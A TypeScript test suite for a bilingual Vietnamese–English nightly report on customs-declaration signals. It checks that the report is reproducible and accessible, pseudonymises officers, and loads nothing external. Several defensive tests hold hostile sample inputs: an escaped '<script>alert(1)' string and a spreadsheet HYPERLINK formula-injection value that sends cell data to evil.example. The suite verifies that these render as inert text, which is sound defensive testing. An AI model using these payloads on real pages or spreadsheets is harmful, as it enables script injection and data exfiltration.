import { mkdirSync, mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parseHTML } from 'linkedom';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { type DuckDBWarehouse, officerPseudonym, openDuckDB, parsePseudonymKey } from '../../engine/index.ts';
import { hostile } from './fixtures/hostile.ts';
import { emptyRun, madeUpRun, type MadeUpRun, writeMadeUpRun } from './fixtures/made-up-run.ts';
import { lintPage, pageWords } from './page/page-words.ts';
import { mayShow } from './reading/set-aside.ts';
import { reportFile } from './report-formats.ts';
import { writeReport } from './write-report.ts';

/** The little of the DOM that the tests read. */
interface PageElement {
  readonly textContent: string;
  readonly attributes: Iterable<{ readonly name: string; readonly value: string }>;
  readonly tagName: string;
  readonly id: string;
  getAttribute(name: string): string | null;
  querySelector(selector: string): PageElement | null;
  querySelectorAll(selector: string): PageElement[];
}

const parsed = new Map<string, PageElement>();

/** Parsed once a page: the tests only read. */
function parse(page: string): PageElement {
  const known = parsed.get(page);
  if (known !== undefined) return known;
  const { document } = parseHTML(page) as unknown as { document: { documentElement: PageElement } }; // no DOM types here
  parsed.set(page, document.documentElement);
  return document.documentElement;
}

const key = parsePseudonymKey('5f'.repeat(32));
let root: string;
let warehouse: DuckDBWarehouse;
let full: string;
let empty: string;
let nothing: string;

async function reportOf(
  name: string,
  run: MadeUpRun | null,
  previous: string | null,
  threads = 2,
): Promise<string> {
  const folder = join(root, name);
  mkdirSync(folder, { recursive: true });
  await warehouse.run(`SET threads = ${threads}`);
  if (run !== null) await writeMadeUpRun(warehouse, folder, run);
  await writeReport({
    warehouse,
    folder,
    key,
    run: '2026-11-20-4f1c09a2b7d3',
    asOf: '2026-11-20',
    windowFrom: '2025-11-20',
    fingerprint: '4f1c09a2b7d3'.padEnd(64, '0'),
    previous,
    checks: [{ name: 'conservation', result: 'passed', detail: '60214 = 60077 + 137' }],
    warnings: [hostile.markup],
    rows: 8,
  });
  return readFileSync(join(folder, reportFile), 'utf8');
}

beforeAll(async () => {
  root = mkdtempSync(join(tmpdir(), 'report [test] '));
  warehouse = await openDuckDB();
  full = await reportOf('full', madeUpRun(), '2026-11-19-88aa10b2c3d4');
  empty = await reportOf('empty', emptyRun(), null);
  nothing = await reportOf('nothing', null, null);
});

afterAll(() => {
  warehouse.close();
  rmSync(root, { recursive: true, force: true });
});

describe('the nightly report', () => {
  it('has the same bytes for the same run, with 1 and with 4 threads', async () => {
    expect(await reportOf('again', madeUpRun(), '2026-11-19-88aa10b2c3d4', 1)).toBe(full);
    expect(await reportOf('four', madeUpRun(), '2026-11-19-88aa10b2c3d4', 4)).toBe(full);
  });

  it('says on top and at the end that a signal is no finding', () => {
    const words = pageWords(full);
    expect(words.vi.match(/Tín hiệu, không phải kết luận/g)).toHaveLength(2);
    expect(words.en.match(/A signal, not a finding/g)).toHaveLength(2);
  });

  it('asks for nothing from anywhere, and forbids it', () => {
    for (const page of [full, empty, nothing]) {
      const document = parse(page);
      expect(
        document.querySelectorAll('script, link, img, iframe, object, embed, base, form, image, use'),
      ).toEqual([]);
      for (const element of document.querySelectorAll('*')) {
        for (const { name, value } of element.attributes) {
          expect(name).not.toMatch(/^on|^src|^srcset|^action|^poster|^data$/);
          if (/href$/.test(name)) expect(value).toMatch(/^#/);
        }
      }
      expect(document.querySelector('style')?.textContent).not.toMatch(/url\(|@import|https?:/);
      expect(
        document.querySelector('meta[http-equiv=Content-Security-Policy]')?.getAttribute('content'),
      ).toContain("default-src 'none'");
    }
  });

  it('shows hostile values as text, and none as a formula', () => {
    expect(full).toContain('&lt;script&gt;alert(1)');
    expect(full).not.toContain('<script');
    expect(full).not.toContain('\u202e');
    for (const value of parse(full).querySelectorAll('[data-foreign]')) {
      expect(value.textContent).not.toMatch(/^\s*[=+@-]/);
    }
    const values = parse(full)
      .querySelectorAll('[data-foreign]')
      .map((value) => value.textContent);
    expect(values).toContain(`'=HYPERLINK("http://evil.example/?x="&A1;"Bấm vào… (54)`);
    expect(values.some((value) => value.startsWith('Doanh nghiệp tư nhân sản xuất'))).toBe(true);
    expect(values).toContain(`${'Đ'.repeat(60)}…`);
  });

  it('names officers by pseudonym, wherever they stand', () => {
    expect(full).toContain(officerPseudonym(key, hostile.officerId));
    // Not the page as the subject: a failure would print all of it.
    expect([hostile.officerId, 'CC10', 'Nguyễn Văn Kín'].filter((id) => full.includes(id))).toEqual([]);
  });

  it('is in both languages, block by block', () => {
    for (const page of [full, empty, nothing]) {
      const document = parse(page);
      const languages = document
        .querySelectorAll('main [lang]')
        .map((element) => element.getAttribute('lang'));
      expect(languages.filter((language) => language === 'vi').length).toBe(
        languages.filter((language) => language === 'en').length,
      );
      expect(document.getAttribute('lang')).toBe('vi');
      expect(document.querySelectorAll('input[type=radio][checked]').map((input) => input.id)).toEqual([
        'show-vi',
      ]);
    }
  });

  it('keeps its wording', () => {
    for (const page of [full, empty, nothing]) expect(lintPage(page)).toEqual([]);
  });

  it.each([
    ['<p lang="vi">công chức tham nhũng</p>', 'tham nhũng'],
    ['<p lang="en">the suspects</p>', 'suspects'],
    ['<svg role="img" aria-label="guilty"></svg>', 'guilty'],
  ])('its wording lint finds the planted %s', (planted, word) => {
    expect(lintPage(full.replace('</main>', `${planted}</main>`)).map((fault) => fault.word)).toEqual([word]);
  });

  it('can be read without seeing it', () => {
    for (const page of [full, empty, nothing]) {
      const document = parse(page);
      expect(document.querySelectorAll('h1')).toHaveLength(1);
      expect(document.querySelectorAll('main')).toHaveLength(1);
      for (const table of document.querySelectorAll('table')) {
        expect(table.querySelector('caption')?.textContent).not.toBe('');
        expect(table.querySelectorAll('th[scope=col]').length).toBeGreaterThan(1);
      }
      for (const svg of document.querySelectorAll('svg')) {
        expect(svg.getAttribute('role')).toBe('img');
        expect(svg.getAttribute('aria-label')?.length).toBeGreaterThan(30);
      }
      const levels = document
        .querySelectorAll('h1, h2, h3, h4, h5')
        .map((heading) => Number(heading.tagName.slice(1)));
      levels.forEach((level, i) => expect(level - (levels[i - 1] ?? 0)).toBeLessThanOrEqual(1));
      const ids = document.querySelectorAll('[id]').map((element) => element.id);
      expect(new Set(ids).size).toBe(ids.length);
      for (const link of document.querySelectorAll('nav a')) {
        expect(ids).toContain(link.getAttribute('href')?.slice(1));
      }
    }
  });

  it('draws contacts, priorities and p-values, once a language', () => {
    const kinds = (selector: string): number =>
      parse(full).querySelectorAll(`${selector} div[lang=vi] svg`).length;
    expect([kinds('#contact'), kinds('#rankings'), kinds('#health')]).toEqual([4, 4, 4]);
  });

  it('draws the rings that are a signal, whole names and all, and counts the others', () => {
    const section = parse(full).querySelector('#rings');
    expect(section?.querySelectorAll('h3')).toHaveLength(1);
    expect(section?.querySelectorAll('svg')).toHaveLength(2);
    const drawn = section?.querySelector('div[lang=en] svg')?.textContent.replace(/\s+/g, ' ') ?? '';
    expect(drawn).toContain('document check');
    expect(drawn).toContain('shared phone');
    const words = section?.querySelector('div[lang=vi] svg')?.textContent ?? '';
    for (const word of hostile.longName.split(' ')) expect(words).toContain(word);
    expect(words).toContain('⟨202E⟩');
    const table = section?.querySelector('table')?.textContent.replace(/\s+/g, ' ') ?? '';
    expect(table).toContain(officerPseudonym(key, hostile.officerId));
    expect(section?.textContent).toContain('other groups were found');
    for (const page of [empty, nothing]) expect(pageWords(page).en).toContain('No ring is significant');
  });

  it('states the flags that chance may account for: q × n', () => {
    const document = parse(full);
    expect(document.querySelector('.chance[lang=en]')?.textContent.replace(/\s+/g, ' ')).toBe(
      'Flags in this list that chance alone may account for: fewer than 0.1 (q × n = 4 × 10⁻⁴ × 7).',
    );
  });

  it('gives innocent explanations once a list, not in every reason', () => {
    const list = parse(full).querySelector('#rankings .ranking');
    expect(list?.querySelectorAll('.innocent li')).toHaveLength(3);
    expect(list?.querySelector('.reasons .why [lang=en]')?.textContent).toMatch(/39 others\.$/);
  });

  it('says what a missing feed would allow', () => {
    const gaps = parse(full).querySelector('#gaps tbody tr')?.textContent.replace(/\s+/g, ' ') ?? '';
    expect(gaps).toContain('H01');
    expect(gaps).toContain('feed duty_roster');
    expect(gaps).toContain('feed processing_events');
  });

  it('tells an empty night and a first night as such', () => {
    for (const page of [empty, nothing]) {
      expect(pageWords(page).en).toContain('This is the first run');
      expect(pageWords(page).vi).toContain('Không có cặp nào được kiểm định');
      expect(page).not.toMatch(/NaN|undefined|Infinity/);
    }
    expect(full).not.toMatch(/NaN|undefined|Infinity/);
  });

  it('says of a row set aside where it stands, what it holds and what was expected', () => {
    const example = parse(full)
      .querySelector('#intake .examples li')
      ?.textContent.replace(/\s+/g, ' ')
      .trim();
    expect(example).toBe(
      'declarations/2026/tờ khai tháng 11 – Chi cục Hải quan khu vực II.csv:2 “2206-11-03T08:00:00” cần:expected: a timestamp from 1990 to 2100',
    );
  });

  it('never shows a nought where nothing was judged', () => {
    const figures = (page: string): string[] =>
      parse(page)
        .querySelectorAll('#summary .family dd b')
        .map((element) => element.textContent);
    expect(figures(full)).toEqual(['10', '24', '–']);
    expect(figures(nothing)).toEqual(['–', '–', '–']);
  });

  it('hides values of personal and of unknown columns', () => {
    expect(mayShow('declarations', 'gross_kg')).toBe(true);
    expect(mayShow('declaration_lines', 'declaration_id, line_no')).toBe(true);
    expect(mayShow('declarations', 'document_officer_id')).toBe(false);
    expect(mayShow('duty_roster', 'officer_id, on_date')).toBe(false);
    expect(mayShow('declarations', '')).toBe(false);
    expect(mayShow('declarations', 'no_such_column')).toBe(false);
    expect(mayShow('no_such_feed', 'gross_kg')).toBe(false);
  });
});
